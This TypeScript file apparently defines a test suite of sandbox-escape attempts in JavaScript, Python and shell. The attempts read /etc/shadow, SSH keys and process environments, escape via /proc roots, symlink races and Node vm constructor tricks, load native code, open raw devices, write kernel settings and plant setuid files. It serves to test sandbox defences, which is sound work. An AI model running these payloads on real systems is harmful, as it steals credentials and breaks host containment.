import type { Attack } from "./attack.js";

const FS = 'const load = (name) => process.getBuiltinModule(name); const fs = load("node:fs");';
const readAll = (paths: string): string => `${FS}
const got = [];
for (const path of ${paths}) try { got.push(fs.readFileSync(path, "utf8")); } catch (error) { got.push(error.code ?? error.message); }
return got;`;
const readAllPython = (paths: string): string => `
result = []
for path in ${paths}:
    try:
        result.append(open(path, "rb").read(65536).decode("latin-1"))
    except OSError as error:
        result.append(str(error))`;

/** Reading and writing what is not the sandbox's. */
export const FILE_ATTACKS: readonly Attack[] = [
  {
    id: "host-secrets",
    area: "files",
    tries: "reads the host's /etc/shadow and a file with a secret",
    sources: {
      javascript: readAll('[args.secret, "/etc/shadow", "/etc/shadow-", "/root/.ssh/id_rsa"]'),
      python: readAllPython('[args["secret"], "/etc/shadow", "/etc/shadow-"]'),
      shell: 'cat "$SECRET" /etc/shadow /etc/shadow-',
    },
  },
  {
    id: "environment",
    area: "files",
    tries: "reads the environment of the host, its own and that of its parents",
    sources: {
      javascript: readAll(
        '["/proc/" + args.pid + "/environ", "/proc/" + args.victim + "/environ", "/proc/1/environ", "/proc/self/environ", "/proc/" + process.ppid + "/environ"]',
      ).replace("return got", "return [got, process.env.WRIT_ESCAPE_SECRET]"),
      python: readAllPython('[f"/proc/{args[\'pid\']}/environ", "/proc/1/environ", "/proc/self/environ"]'),
      shell: "env; cat /proc/*/environ",
    },
  },
  {
    id: "proc-root",
    area: "files",
    tries: "walks to the host's files through /proc/PID/root and /proc/PID/cwd",
    sources: {
      javascript: readAll(
        '["/proc/self/root", "/proc/1/root", "/proc/1/cwd", "/proc/" + args.pid + "/root"].map((root) => root + args.secret)',
      ),
      python: readAllPython(
        '[root + args["secret"] for root in ("/proc/self/root", "/proc/1/root", f"/proc/{args[\'pid\']}/root")]',
      ),
      shell: 'for root in /proc/*/root /proc/*/cwd; do cat "$root$SECRET"; done',
    },
  },
  {
    id: "descriptors",
    area: "files",
    tries: "reads every descriptor that it was started with",
    sources: {
      javascript: `${FS}
const got = [];
for (let fd = 4; fd < 300; fd++) try {
  if (!fs.fstatSync(fd).isFile()) continue;
  const bytes = Buffer.alloc(4096);
  got.push(bytes.toString("latin1", 0, fs.readSync(fd, bytes, 0, 4096, 0)));
} catch {}
return got;`,
      python: `import os, stat
result = []
for fd in range(4, 300):
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            result.append(os.pread(fd, 4096, 0).decode("latin-1"))
    except OSError:
        pass`,
      shell: "for fd in /proc/*/fd/*; do [ -f $fd ] && head -c 4096 $fd; done",
    },
  },
  {
    id: "write-outside",
    area: "files",
    tries: "writes to a folder of the host, and to the system's own",
    sources: {
      javascript: `${FS}
for (const path of [args.outside + "/pwned", "/usr/bin/writ-pwned", "/etc/writ-pwned", "/writ-pwned"])
  try { fs.mkdirSync(load("node:path").dirname(path), { recursive: true }); fs.writeFileSync(path, "x"); } catch {}`,
      python: `import os
for path in (args["outside"] + "/pwned", "/usr/bin/writ-pwned", "/etc/writ-pwned"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("x")
    except OSError:
        pass`,
      shell: 'mkdir -p "$OUTSIDE"; echo x >"$OUTSIDE/pwned"; echo x >/usr/bin/writ-pwned; echo x >/etc/writ-pwned',
    },
  },
  {
    id: "sqlite-attach",
    area: "files",
    tries: "lets SQLite attach a database outside",
    sources: {
      javascript: `const { DatabaseSync } = process.getBuiltinModule("node:sqlite");
const db = new DatabaseSync(":memory:");
db.exec("attach '" + args.outside + "/pwned.db' as x; create table x.t(a)");`,
      python: `import sqlite3
sqlite3.connect(":memory:").executescript(f"attach '{args['outside']}/pwned.db' as x; create table x.t(a)")`,
    },
  },
  {
    id: "planted-link",
    area: "files",
    tries: "reads and writes through links that lie in its folder and lead outside",
    mount: "write",
    sources: {
      javascript: `${FS}
const got = [];
try { got.push(fs.readFileSync(args.mount + "/link-secret", "utf8")); } catch (error) { got.push(error.code); }
try { fs.writeFileSync(args.mount + "/link-outside/pwned", "x"); } catch (error) { got.push(error.code); }
return got;`,
      python: `result = []
try:
    result.append(open(args["mount"] + "/link-secret").read())
except OSError as error:
    result.append(str(error))
open(args["mount"] + "/link-outside/pwned", "w").write("x")`,
      shell: 'cat "$MOUNT/link-secret"; echo x >"$MOUNT/link-outside/pwned"',
    },
  },
  {
    id: "own-link",
    area: "files",
    tries: "makes links of both kinds to a secret in its folder and reads them",
    mount: "write",
    sources: {
      javascript: `${FS}
const got = [];
for (const make of [fs.symlinkSync, fs.linkSync]) try {
  const link = args.mount + "/made-" + make.name;
  make(args.secret, link);
  got.push(fs.readFileSync(link, "utf8"));
} catch (error) { got.push(error.code); }
return got;`,
      python: `import os
result = []
for make in (os.symlink, os.link):
    try:
        link = args["mount"] + "/py-" + make.__name__
        make(args["secret"], link)
        result.append(open(link).read())
    except OSError as error:
        result.append(str(error))`,
      shell: 'ln -s "$SECRET" "$MOUNT/s"; ln "$SECRET" "$MOUNT/h"; cat "$MOUNT/s" "$MOUNT/h"',
    },
  },
  {
    id: "read-only-mount",
    area: "files",
    tries: "writes, removes and renames in a folder that it may only read",
    mount: "read",
    sources: {
      javascript: `${FS}
for (const act of [
  () => fs.writeFileSync(args.mount + "/pwned", "x"), () => fs.rmSync(args.mount + "/mine"),
  () => fs.renameSync(args.mount + "/mine", args.mount + "/pwned"), () => fs.chmodSync(args.mount + "/mine", 0o777),
]) try { act(); } catch {}`,
      python: `import os
for act in (lambda: open(args["mount"] + "/pwned", "w"), lambda: os.remove(args["mount"] + "/mine")):
    try:
        act()
    except OSError:
        pass`,
      shell: 'echo x >"$MOUNT/pwned"; rm -f "$MOUNT/mine"; mv "$MOUNT/mine" "$MOUNT/pwned"',
    },
  },
  {
    id: "leave-mount",
    area: "files",
    tries: "leaves its folder by .., and by swapping it for a link while it reads",
    mount: "write",
    sources: {
      javascript: `${FS}
const got = [];
try { got.push(fs.readFileSync(args.mount + "/../secret", "utf8")); } catch (error) { got.push(error.code); }
const [a, b] = [args.mount + "/a", args.mount + "/b"];
try { fs.mkdirSync(a); fs.symlinkSync(load("node:path").dirname(args.secret), b); } catch {}
for (let i = 0; i < 2000; i++) {
  try { fs.renameSync(a, a + "x"); fs.renameSync(b, a); fs.renameSync(a + "x", b); } catch {}
  try { got.push(fs.readFileSync(a + "/secret", "utf8")); } catch {}
}
return got;`,
      python: 'result = open(args["mount"] + "/../secret").read()',
      shell: 'cat "$MOUNT/../secret"; cd "$MOUNT" && cd .. && cat secret && ls',
    },
  },
  {
    id: "node-internals",
    area: "files",
    tries: "reads a secret through process.binding, node:vm and a worker thread",
    sources: {
      javascript: `const got = [];
try { got.push(process.binding("fs").readFileUtf8(args.secret, 0)); } catch (error) { got.push(error.code); }
try {
  const vm = process.getBuiltinModule("node:vm");
  got.push(vm.runInNewContext("this.constructor.constructor('return process')()").getBuiltinModule("fs").readFileSync(args.secret, "utf8"));
} catch (error) { got.push(error.code); }
try {
  const { Worker } = process.getBuiltinModule("node:worker_threads");
  const source = "require('worker_threads').parentPort.postMessage(require('fs').readFileSync(" + JSON.stringify(args.secret) + ",'utf8'))";
  const worker = new Worker(source, { eval: true, env: {}, execArgv: [] });
  got.push(await new Promise((resolve) => { worker.on("message", resolve); worker.on("error", (error) => resolve(error.code)); }));
} catch (error) { got.push(error.code); }
return got;`,
    },
  },
  {
    id: "constructor-walk",
    area: "files",
    tries: "walks from what it is given to functions of the host, and imports modules by every name",
    sources: {
      javascript: `const got = [];
const roots = [globalThis, world, world.fetch, world.files, world.files.read, args, new Error(), Promise, console?.log];
for (const root of roots) try {
  const outer = root.constructor.constructor("return globalThis")();
  got.push(outer.process?.getBuiltinModule?.("node:fs").readFileSync(args.secret, "utf8") ?? "nothing");
} catch (error) { got.push(String(error?.name)); }
for (const name of ["std", "os", "fs", "node:fs", "node:child_process", "file://" + args.secret, args.secret]) try {
  const made = await import(name);
  got.push((made.readFileSync ?? made.loadFile)?.(args.secret, "utf8") ?? "nothing");
} catch (error) { got.push(String(error?.name)); }
try { Error.prepareStackTrace = (_, frames) => frames; const frame = new Error().stack[0];
  got.push(frame.getFunction?.()?.constructor("return process")().getBuiltinModule("node:fs").readFileSync(args.secret, "utf8"));
} catch (error) { got.push(String(error?.name)); }
return got.map(String);`,
    },
  },
  {
    id: "native-code",
    area: "files",
    tries: "loads code of its own into the process: an addon, and Node with --require",
    sources: {
      javascript: `const got = [];
try { process.dlopen({ exports: {} }, args.mount + "/x.node"); got.push("ESCAPED: loaded"); } catch (error) { got.push(error.code); }
try {
  const { spawnSync } = process.getBuiltinModule("node:child_process");
  const made = spawnSync(process.execPath, ["-e", "0"], { env: { NODE_OPTIONS: "--require " + args.secret } });
  got.push(made.error?.code ?? String(made.stderr));
} catch (error) { got.push(error.code); }
return got;`,
      python: `import ctypes
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.open(args["secret"].encode(), 0)
buffer = ctypes.create_string_buffer(4096)
libc.read(fd, buffer, 4095)
result = buffer.value.decode("latin-1")`,
    },
  },
  {
    id: "fuse-device",
    area: "files",
    tries: "opens the device that file systems are made with",
    sources: {
      javascript: `${FS}
try { fs.closeSync(fs.openSync("/dev/fuse", "r")); return "ESCAPED: opened /dev/fuse"; } catch (error) { return error.code; }`,
    },
    unclaimed: { gvisor: "the device is one of gVisor's own kernel, and none of the host's" },
  },
  {
    id: "devices",
    area: "files",
    tries: "reads disks, memory and the kernel's log by their devices, and makes such devices",
    sources: {
      javascript: `${FS}
const got = [];
for (const path of ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg", "/dev/port", "/proc/kcore", "/dev/kvm"])
  try { fs.closeSync(fs.openSync(path, "r")); got.push("ESCAPED: opened " + path); } catch (error) { got.push(error.code); }
return got;`,
      python: `import os, stat
result = []
for path in ("/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/kvm"):
    try:
        os.close(os.open(path, os.O_RDONLY))
        result.append("ESCAPED: opened " + path)
    except OSError as error:
        result.append(str(error))
try:
    os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
    os.close(os.open("/tmp/disk", os.O_RDONLY))
    result.append("ESCAPED: made and opened a disk")
except OSError as error:
    result.append(str(error))`,
      shell: "for d in /dev/vda /dev/sda /dev/mem /dev/kmsg /dev/kvm; do (: <$d) && echo ESCAPED: opened $d; done",
    },
  },
  {
    id: "kernel-settings",
    area: "files",
    tries: "opens every setting of the kernel in /proc and /sys for writing",
    sources: {
      javascript: `${FS}
const walk = (path, depth) => {
  let entries = [];
  try { entries = fs.readdirSync(path, { withFileTypes: true }); } catch {}
  for (const entry of entries) {
    const at = path + "/" + entry.name;
    if (entry.isDirectory()) { if (depth > 0) walk(at, depth - 1); continue; }
    try { fs.closeSync(fs.openSync(at, fs.constants.O_WRONLY | fs.constants.O_NONBLOCK)); } catch { continue; }
    throw new Error("ESCAPED: could write " + at);
  }
};
for (const path of ["/proc/sys", "/proc/bus", "/proc/irq", "/proc/fs", "/proc/driver", "/proc/acpi", "/sys"]) walk(path, 6);
try { fs.closeSync(fs.openSync("/proc/sysrq-trigger", "a")); return "ESCAPED: could write sysrq-trigger"; } catch {}`,
      python: `import os
result = "none"
for top in ("/proc/sys", "/proc/bus", "/proc/irq", "/proc/fs", "/proc/driver", "/proc/acpi", "/sys"):
    for path, _, names in os.walk(top):
        for name in names:
            try:
                os.close(os.open(f"{path}/{name}", os.O_WRONLY | os.O_NONBLOCK))
                result = f"ESCAPED: could write {path}/{name}"
            except OSError:
                pass`,
      shell: "for f in /proc/sys/*/* /proc/sys/*/*/*; do (: >>$f) && echo ESCAPED: could write $f; done 2>/dev/null",
    },
  },
  {
    id: "device-modes",
    area: "files",
    tries: "changes the mode of the host's device nodes, by name and by what it was started with",
    sources: {
      javascript: `${FS}
const got = [];
for (const path of ["/dev/null", "/dev/zero", "/dev/random", "/dev/tty"])
  try { fs.chmodSync(path, 0o666); got.push("ESCAPED: changed " + path); } catch (error) { got.push(error.code); }
for (let fd = 0; fd < 300; fd++)
  try { if (fs.fstatSync(fd).isCharacterDevice()) { fs.fchmodSync(fd, 0o666); got.push("ESCAPED: changed descriptor " + fd); } } catch (error) { got.push(error.code); }
return got;`,
      python: `import os, stat
result = []
for where in ("/dev/null", "/dev/zero", "/dev/tty", *range(300)):
    try:
        if stat.S_ISCHR(os.stat(where).st_mode):
            os.chmod(where, 0o666)
            result.append(f"ESCAPED: changed {where}")
    except OSError as error:
        result.append(str(error))`,
      shell: "for d in null zero full random urandom tty; do chmod 666 /dev/$d && echo ESCAPED: changed $d; done",
    },
  },
  {
    id: "plant-set-id",
    area: "files",
    tries: "leaves a program in its folder that takes its owner's identity when it is run",
    mount: "write",
    sources: {
      javascript: `${FS}
const path = args.mount + "/planted";
for (const act of [
  () => { fs.writeFileSync(path, "#!/bin/sh"); fs.chmodSync(path, 0o4755); },
  () => fs.closeSync(fs.openSync(path + "2", "w", 0o6755)), () => fs.mkdirSync(path + "3", 0o2777),
  () => { const fd = fs.openSync(path + "4", "w"); fs.fchmodSync(fd, 0o2755); },
]) try { act(); } catch {}`,
      python: `import os
path = args["mount"] + "/planted-py"
def make():
    open(path, "w").close()
    os.chmod(path, 0o4755)
for act in (make, lambda: os.open(path + "2", os.O_CREAT | os.O_WRONLY, 0o6755), lambda: os.mknod(path + "3", 0o104755)):
    try:
        act()
    except OSError:
        pass`,
      shell: 'touch "$MOUNT/planted-sh"; chmod u+s "$MOUNT/planted-sh"; chmod 2755 "$MOUNT/planted-sh"',
    },
    unclaimed: {
      container: "it would be run as the user 65534 of the sandbox, and as nobody else",
      gvisor: "it would be run as the user 65534 of the sandbox, and as nobody else",
    },
  },
];
